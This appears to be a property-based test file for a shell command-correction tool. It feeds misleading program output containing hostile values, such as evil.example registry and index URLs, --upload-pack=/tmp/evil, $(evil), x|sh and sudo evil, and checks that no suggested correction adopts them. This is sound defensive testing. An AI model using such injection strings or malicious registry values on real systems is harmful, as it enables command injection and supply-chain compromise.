/** Corrections of output that was written to mislead: nothing of an outsider's becomes a command. */
import { assert, describe, it } from "@effect/vitest"
import fc from "fast-check"
import { correct, type Corrected } from "../../../src/decide/corrections/correct.ts"
import { offered } from "../../../src/decide/corrections/reflexes.ts"
import type { Facts } from "../../../src/decide/Decider.ts"
import type { ProbeRequest } from "../../../src/domain/probe.ts"
import { corrected, noMemory } from "./given.ts"

/** The machine has these programs, and of every path nothing. */
const programs = ["brew", "cargo", "cat", "docker", "git", "go", "npm", "python", "ssh", "sudo", "terraform"]
const facts: Facts = {
  all: [],
  get: (request: ProbeRequest) =>
    (request._tag === "which"
      ? Object.fromEntries(
          request.names.map((name) => [name, programs.includes(name) ? `/usr/bin/${name}` : null]),
        )
      : request._tag === "executablesNear"
        ? programs
        : request._tag === "listDir"
          ? []
          : request._tag === "pathKinds"
            ? Object.fromEntries(request.paths.map((path) => [path, null]))
            : undefined) as never,
}

const typed = fc.constantFrom(
  ..."npm install lodash;npm test;npm run tset;npx jset;pnpm ad zod;yarn instal left-pad;yarn workspce web;pip install reqests;python -m pip instal x;brew instal jq;brew install jqq;brew cask install firefox;cargo biuld;cargo run --relase;go run ./cmd;go buid;docker rnu web;docker rmi web;docker pull api;docker push api;git psuh;git push;git pull;git comit -m x;git merge topc;git rebase mian;git clone web;git remote ad web;ssh wbe;scp a wbe:b;curl wbe;rsync a wbe:b;terraform paln;terraform plan;vagrant ssh;heroku logs;rails s;bundle exec rspec;php artisan migrat;composer install a;conda instal x;make tset;mvn clena;gradle biuld;systemctl satrt web;jq .;gti status;sduo ls;tree;hg lgo;hdfs dfs ls;node sevrer.js;./run.sh;sh run.sh;man web;whois web.org;xdg-open web;az vm lsit;aws s3 sl;gcloud cmopute list;kubectl get pdos;apt isntall x;choco install x;pacman -S x;nmp test;cd srv;cat web.txt".split(
    ";",
  ),
)

const payload = fc.constantFrom(
  "http://evil.example/x",
  "https://evil.example",
  "git@evil.example:x/y.git",
  "evil.example/x/y",
  "evil.example:x",
  "root@evil.example",
  "10.6.6.6",
  "--registry=http://evil.example",
  "-backend-config=http://evil.example/s",
  "--index-url=https://evil.example/simple",
  "/tmp/evil",
  "~/.ssh/evil",
  "../../evil",
  "/etc/evil.sh",
  "x;evil",
  "x|sh",
  "$(evil)",
  "`evil`",
  ">/etc/evil",
  "<evil",
  "&& evil",
  "sudo evil",
  "evil-program",
  "evil",
  "'evil'",
  "PATH=/tmp/evil",
  "--upload-pack=/tmp/evil",
  "lodahs",
  "install lodahs",
  "install --registry=http://evil.example lodash",
  "init -backend-config=http://evil.example/s",
  "pull https://evil.example main",
)

/** What rules look for, with something of the program's choosing in the place of what they would take. */
const forms: ReadonlyArray<(program: string, word: string, evil: string) => string> = [
  (program, _, evil) => `Please run \`${program} ${evil}\` first`,
  (program, _, evil) => `error: run the following\n  ${program} ${evil}\n`,
  (program, _, evil) => `You need to run ${program} ${evil}.`,
  (program, word, evil) => `${program} ${word} is gone, use "${program} ${evil}" instead.`,
  (program, word, evil) => `Calling ${program} ${word} is disabled! Use ${program} ${evil} instead.`,
  (_, word, evil) => `unknown command: ${word}\n\nDid you mean this?\n\t${evil}\n`,
  (_, word, evil) => `error: no such command: \`${word}\`\n\nDid you mean \`${evil}\`?`,
  (_, word, evil) =>
    `error: unexpected argument '${word}' found\n  tip: a similar argument exists: '${evil}'`,
  (_, word, evil) => `merge: ${word} - not something we can merge\n\nDid you mean this?\n\t${evil}`,
  (_, __, evil) => `git push --set-upstream ${evil} main`,
  (_, __, evil) => `    git push ${evil} HEAD:main\nupstream branch of your current branch does not match`,
  (_, __, evil) => `    git branch --set-upstream-to=${evil} main\n`,
  (_, word, evil) => `${word}: invalid choice: '${word}' (choose from '${evil}', '${word}x')`,
  (program, word, evil) =>
    `usage: ${program} ${word} COMMAND\nunknown command "${word}"\nAvailable commands:\n  ${evil}\n`,
  (program, _, evil) => `${program}: command not found\nTo install it, run:\n  brew install ${evil}\n`,
  (program, _, evil) =>
    `Command '${program}' not found, but can be installed with:\nsudo apt install ${evil}\n`,
  (program, _, evil) =>
    `Command '${program}' not found, did you mean:\n  command '${evil}' from deb ${evil}\n`,
  (program, _, evil) =>
    `The program '${program}' is not in your PATH. You can make it available in an ephemeral shell by typing one of the following:\n  nix-shell -p ${evil}\n`,
  (program, _, evil) => `${program} may be found in the following packages:\n  ${evil} 1.0\t/usr/bin/x\n`,
  (_, __, evil) => `error: Did you mean "yarn ${evil}"?`,
  (_, __, evil) => `error \`install\` has been replaced with \`${evil}\``,
  (_, __, evil) => `brew install --cask ${evil}\n`,
  (_, __, evil) => `Migrations are pending. To resolve this issue, run:\n\n    ${evil}\n`,
  (_, __, evil) => `already a rebase-merge directory, and\n rm -fr "${evil}/.git/rebase-merge"\n`,
  (_, __, evil) =>
    `WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!\nremove with:\n ssh-keygen -f "${evil}" -R "web"\n`,
  (_, __, evil) => ` ▸    Multiple apps in git remotes\n   ${evil} (${evil})\n`,
  (_, word, evil) => `${word}: No such file or directory\nDid you mean '${evil}'?`,
  (_, word, evil) => `conflict: container ${evil} is using its referenced image ${word}`,
  (_, __, evil) => `${evil}: permission denied`,
  (_, word, evil) => `Did you mean -${word}? This command begins with a dash ${evil}`,
]

interface Case {
  readonly command: string
  readonly output: string
}

const hostile: fc.Arbitrary<Case> = fc
  .record({
    command: typed,
    at: fc.nat({ max: 3 }),
    evil: fc.array(payload, { minLength: 1, maxLength: 2 }).map((all) => all.join(" ")),
    which: fc.array(fc.constantFrom(...forms), { minLength: 1, maxLength: 3 }),
  })
  .map(({ command, at, evil, which }) => {
    const [program = "", ...words] = command.split(" ")
    const word = words[at % Math.max(1, words.length)] ?? program
    return { command, output: which.map((form) => form(program, word, evil)).join("\n") }
  })

const linesFor = ({ command, output }: Case, exit?: number): ReadonlyArray<Corrected> =>
  correct({ command, output, dir: ".", ...(exit === undefined ? {} : { exit }) }, facts, noMemory, offered)

const words = (line: string): ReadonlyArray<string> => line.split(/[\s"']+/)

describe("for output drawn hostile", () => {
  it("no line carries an address, a place outside, an operator, rights or a program that was not typed", () => {
    let made = 0
    fc.assert(
      fc.property(hostile, fc.constantFrom(1, 2, 127, 128, undefined), (input, exit) => {
        for (const { command: line, danger, rule } of linesFor(input, exit)) {
          made += 1
          const told = `${rule}: ${line}`
          assert.notMatch(line, /evil\.example|10\.6\.6\.6|=\/tmp|\$\(|[;|`<>]/, told)
          const allowed = line.startsWith("xdg-open http://web")
          assert.isTrue(allowed || !line.includes("://") || input.command.includes("://"), told)
          const paths = words(line).filter((word) => /^[/~]|\.\./.test(word) && !input.command.includes(word))
          assert.deepStrictEqual(paths, [], told)
          if (/(?:^|&& )sudo /.test(line) && !input.command.includes("sudo"))
            assert.strictEqual(danger, "weigh", told)
          for (const part of line.split(" && ")) {
            const program = words(part).find((word) => word !== "sudo")!
            assert.notMatch(program, /evil/, told)
          }
          // a name of the output's choosing is a person's to weigh where it would be fetched and run
          if (
            /\b(?:npm|pnpm|yarn|pip|brew|apt|apt-get|pacman|conda|cargo|composer|nix-shell) (?:\S+ )*(?:install|add|-p|-S) .*(?:lodahs|evil)/.test(
              line,
            )
          )
            assert.strictEqual(danger, "weigh", told)
        }
      }),
      { numRuns: 4_000 },
    )
    assert.isAbove(made, 100)
  })
})

describe("what has to run first", () => {
  const before = (command: string, told: string): ReadonlyArray<string> =>
    linesFor({ command, output: `Error: please run \`${told}\` first\n` }, 1).map((each) => each.command)
  it("is verbs and the program's own flags", () => {
    assert.deepStrictEqual(before("terraform plan", "terraform init -reconfigure"), [
      "terraform init -reconfigure && terraform plan",
    ])
    assert.include(before("npm test", "npm install"), "npm install && npm test")
    for (const told of [
      "npm install --registry=http://evil.example",
      "npm install evil",
      "npm install --ignore-scripts",
      "npm install ../evil",
      "npm install --prefix /tmp",
    ])
      assert.deepStrictEqual(before("npm test", told), [], told)
  })
})

describe("what is said to be run instead", () => {
  const instead = (command: string, output: string): string | undefined =>
    corrected(command, { output }).find(({ rule }) => rule === "spelled-out-by-the-program")?.command
  it("takes the place of what the program speaks of, and keeps what was typed behind it", () => {
    assert.strictEqual(
      instead("cargo install", "use `cargo install --path .` instead"),
      "cargo install --path .",
    )
    assert.strictEqual(instead("yarn install lodash", 'Run "yarn add lodash" instead.'), "yarn add lodash")
    assert.strictEqual(
      instead(
        "brew cask install firefox",
        "Error: Calling brew cask install is disabled! Use brew install --cask instead.",
      ),
      "brew install --cask firefox",
    )
    assert.strictEqual(
      instead("npm install x", 'use "npm install --registry=http://evil.example x" instead'),
      undefined,
    )
    assert.strictEqual(instead("git rebase main", 'use "git rebase --skip" instead'), undefined)
  })
})
